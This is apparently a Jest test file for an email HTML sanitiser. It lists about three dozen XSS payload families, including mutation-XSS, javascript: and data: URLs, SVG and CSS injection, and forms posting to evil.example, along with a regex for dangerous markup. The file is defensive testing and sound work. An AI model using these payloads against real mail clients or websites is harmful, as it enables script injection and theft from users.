import { afterAll, describe, expect, it } from '@jest/globals';
import { HtmlSanitizer, MAX_HTML } from './html.js';
import { sanitize } from './sanitize.js';

const keep = (dirty: string) => sanitize(dirty, { mode: 'keep' }).html;

/** Payloads of known attacks on mail readers, one family each (reliability 2 A). */
const ATTACKS: [string, string][] = [
  ['script', '<script>__xss()</script>'],
  ['nested rebuild', '<scr<script>ipt>__xss()</scr</script>ipt>'],
  ['unclosed script', '<script>__xss()'],
  ['event handler', '<img src=x onerror=__xss()>'],
  ['event handler with slash', '<img/src=x/onerror=__xss()>'],
  ['javascript link', '<a href="javascript:__xss()">x</a>'],
  ['javascript link with controls', '<a href="\u0001java\tscr\nipt:__xss()">x</a>'],
  ['javascript link in entities', '<a href="&#106;avascript&colon;__xss()">x</a>'],
  ['data link', '<a href="data:text/html,<script>__xss()</script>">x</a>'],
  ['vbscript', '<a href="vbscript:__xss()">x</a>'],
  ['svg smil', '<svg><a><animate attributeName=href values=javascript:__xss() /><text>x</text></a></svg>'],
  ['svg onload', '<svg/onload=__xss()>'],
  ['svg image data', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
  ['math mxss', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss()&gt;">'],
  ['noscript mxss', '<noscript><p title="</noscript><img src=x onerror=__xss()>">'],
  ['template', '<template><img src=x onerror=__xss()></template>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>__xss()</script>"></iframe>'],
  ['object', '<object data="javascript:__xss()"></object><embed src="javascript:__xss()">'],
  ['form', '<form action="https://evil.example"><input name=p><button>go</button></form>'],
  ['formaction', '<button formaction="javascript:__xss()">x</button>'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=javascript:__xss()">'],
  ['base', '<base href="https://evil.example/">'],
  ['link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['style element', '<style>@import "https://evil.example/x.css"; body{background:url(//evil.example)}</style>'],
  ['style url', '<div style="background-image:url(https://evil.example/x)">x</div>'],
  ['style escapes', '<div style="background:\\75rl(https://evil.example/x)">x</div>'],
  ['style expression', '<div style="width:expression(__xss())">x</div>'],
  ['style fixed', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>'],
  ['style image-set', '<div style="background:image-set(\'https://evil.example/x\' 1x)">x</div>'],
  ['comment breakout', '<!--><img src=x onerror=__xss()>-->'],
  ['cdata', '<![CDATA[><img src=x onerror=__xss()>]]>'],
  ['xmp', '<xmp><img src=x onerror=__xss()></xmp>'],
  ['title', '<title><img src=x onerror=__xss()></title>'],
  ['video poster', '<video poster="https://evil.example/x" onerror=__xss()><source src=x onerror=__xss()></video>'],
  ['autofocus', '<div tabindex=1 autofocus onfocus=__xss()>x</div>'],
  ['details toggle', '<details open ontoggle=__xss()>x</details>'],
];
// In what is left as an element: no handler, no scheme that runs, no way to load, no position.
const DANGER =
  /<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript|data:text|svg\+xml)|<(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|noscript|xmp|title|video|source)\b|<[^>]*style="[^"]*(?:url|expression|image-set|position|@import)/i;

describe('sanitised HTML', () => {
  it.each(ATTACKS)('%s does nothing', (_name, attack) => {
    const clean = keep(`<p>before</p>${attack}`);
    expect(clean).not.toMatch(DANGER);
    expect(clean).toContain('<p>before</p>');
  });

  it.each(ATTACKS)('%s: a second pass changes nothing', (_name, attack) => {
    const once = keep(attack);
    expect(keep(once)).toBe(once);
  });

  it('keeps what mails are made of', () => {
    const mail =
      '<table width="600" cellpadding="0" bgcolor="#fff"><tr><td style="color:#333;padding:4px 8px" align="left"><b>Hi</b><br><a href="https://shop.example/o/1">order</a></td></tr></table><ul><li>a</li></ul><blockquote type="cite">q</blockquote>';
    const clean = keep(mail);
    for (const part of [
      'width="600"',
      'color:#333',
      'padding:4px 8px',
      '<b>Hi</b>',
      '<li>a</li>',
      'type="cite"',
      'href="https://shop.example/o/1"',
    ])
      expect(clean).toContain(part);
    expect(clean).toContain('rel="noopener noreferrer nofollow"');
  });

  it('loads nothing from elsewhere, but remembers what it would have loaded', () => {
    const { html, remote } = sanitize(
      '<img src="https://cdn.example/a.png" srcset="https://cdn.example/b.png 2x"><td background="http://cdn.example/t.gif"><img src="//cdn.example/c.png">',
      { mode: 'keep' },
    );
    expect(remote).toBe(true);
    expect(html).not.toMatch(/\s(?:src|srcset|background)=/);
    expect(html).toContain('data-remote-src="https://cdn.example/a.png"');
    expect(html).toContain('data-remote-src="https://cdn.example/c.png"');
    expect(sanitize(html, { mode: 'send' }).html).not.toContain('cdn.example');
  });

  it('shows pictures that lie in the mail, by the address of the attachment, and no others', () => {
    const kept = keep(
      '<img src="cid:logo@x"><img src="cid:other"><img src="/files/attachments/att_1"><img src="data:image/png;base64,AAAA">',
    );
    expect(kept).toContain('src="cid:logo@x"');
    expect(kept).not.toContain('/files/');
    const { html } = sanitize(kept, { mode: 'show', images: { 'logo@x': '/files/attachments/att_9' } });
    expect(html).toContain('src="/files/attachments/att_9"');
    expect(html).not.toContain('cid:');
    expect(html).toContain('data:image/png');
    const escaped = sanitize('<img src="cid:logo%40x">', { mode: 'show', images: { 'logo@x': '/files/attachments/att_9' } });
    expect(escaped.html).toContain('src="/files/attachments/att_9"');
  });
});

describe('the sanitiser of the server', () => {
  const sanitizer = new HtmlSanitizer();
  afterAll(() => sanitizer.onModuleDestroy());

  it('passes its own test at the start', () => {
    expect(() => sanitizer.onModuleInit()).not.toThrow();
  });

  it('cleans long HTML in a worker, several at a time', async () => {
    const rows = '<p onclick="x()">row</p>'.repeat(2000);
    const results = await Promise.all(Array.from({ length: 5 }, () => sanitizer.clean(rows, { mode: 'keep' })));
    for (const { html, cut } of results) {
      expect(html).toBe('<p>row</p>'.repeat(2000));
      expect(cut).toBe(false);
    }
  });

  it('cuts at 1 MB and says so', async () => {
    const { html, cut } = await sanitizer.clean('<b>x</b>'.repeat(MAX_HTML / 4), { mode: 'keep' });
    expect(cut).toBe(true);
    expect(html.length).toBeLessThanOrEqual(MAX_HTML + 100);
  });
});
